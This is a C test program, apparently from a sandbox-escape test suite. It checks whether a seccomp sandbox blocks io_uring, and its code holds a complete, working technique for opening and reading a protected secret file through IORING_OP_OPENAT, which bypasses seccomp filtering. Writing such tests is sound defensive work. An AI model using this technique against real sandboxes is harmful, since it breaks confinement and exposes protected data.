/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Attack 10: io_uring. Its requests (IORING_OP_OPENAT, ...) run in the
 * kernel without passing the seccomp filter, so a sandbox that lets
 * io_uring_setup through has no say over them. The attack sets up a ring
 * with raw syscalls and submits an OPENAT of the secret (then reads the
 * descriptor it gets with a plain read). io_uring_setup must fail
 * (ENOSYS), and so must io_uring_enter and io_uring_register on a bogus fd.
 */
#include <linux/io_uring.h>
#include <sys/mman.h>

#include "escape-common.h"

static int ring_openat(const char *path)
{
	struct io_uring_params p;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqes;
	unsigned *sq_tail, *sq_array, *cq_head, *cq_tail, *sq_mask, *cq_mask;
	void *sq, *cq;
	size_t sqsz, cqsz;
	int fd, r, res;

	memset(&p, 0, sizeof(p));
	fd = (int)syscall(__NR_io_uring_setup, 4, &p);
	if (fd < 0) {
		esc_say("io_uring_setup: %m (held)");
		return -1;
	}
	esc_say("io_uring_setup gave fd %d", fd);
	sqsz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	cqsz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	sq = mmap(NULL, sqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
		  fd, IORING_OFF_SQ_RING);
	cq = mmap(NULL, cqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
		  fd, IORING_OFF_CQ_RING);
	sqes = mmap(NULL, p.sq_entries * sizeof(*sqes), PROT_READ | PROT_WRITE,
		    MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) {
		esc_say("mmap of the rings: %m");
		close(fd);
		return -1;
	}
	sq_tail = (unsigned *)((char *)sq + p.sq_off.tail);
	sq_mask = (unsigned *)((char *)sq + p.sq_off.ring_mask);
	sq_array = (unsigned *)((char *)sq + p.sq_off.array);
	cq_head = (unsigned *)((char *)cq + p.cq_off.head);
	cq_tail = (unsigned *)((char *)cq + p.cq_off.tail);
	cq_mask = (unsigned *)((char *)cq + p.cq_off.ring_mask);
	cqes = (struct io_uring_cqe *)((char *)cq + p.cq_off.cqes);

	{
		unsigned t = *sq_tail, i = t & *sq_mask;

		memset(&sqes[i], 0, sizeof(sqes[i]));
		sqes[i].opcode = IORING_OP_OPENAT;
		sqes[i].fd = AT_FDCWD;
		sqes[i].addr = (unsigned long)path;
		sqes[i].open_flags = O_RDONLY;
		sqes[i].user_data = 1;
		sq_array[i] = i;
		__atomic_store_n(sq_tail, t + 1, __ATOMIC_RELEASE);
	}
	r = (int)syscall(__NR_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS,
			 NULL, 0);
	if (r < 0) {
		esc_say("io_uring_enter: %m (held)");
		close(fd);
		return -1;
	}
	{
		unsigned h = __atomic_load_n(cq_head, __ATOMIC_ACQUIRE);

		if (h == __atomic_load_n(cq_tail, __ATOMIC_ACQUIRE)) {
			esc_say("no completion");
			close(fd);
			return -1;
		}
		res = cqes[h & *cq_mask].res;
		__atomic_store_n(cq_head, h + 1, __ATOMIC_RELEASE);
	}
	close(fd);
	if (res < 0) {
		esc_say("IORING_OP_OPENAT of %s: %s", path, strerror(-res));
		return -1;
	}
	return res;
}

int main(void)
{
	int fd;
	char buf[512];
	ssize_t n;
	long r;

	esc_init("io-uring", "io_uring_setup, then IORING_OP_OPENAT of the secret");
	r = syscall(__NR_io_uring_enter, 12345, 0, 0, 0, NULL, 0);
	esc_say("io_uring_enter(bogus fd): %s", r < 0 ? strerror(errno) : "0");
	r = syscall(__NR_io_uring_register, 12345, 0, NULL, 0);
	esc_say("io_uring_register(bogus fd): %s", r < 0 ? strerror(errno) : "0");
	fd = ring_openat(esc_secret);
	if (fd >= 0) {
		n = read(fd, buf, sizeof(buf));
		if (esc_is_stolen(buf, n))
			esc_leak("io_uring openat", buf, n);
		else
			esc_escape("io_uring opened the secret (fd %d)", fd);
		close(fd);
	}
	return esc_finish();
}
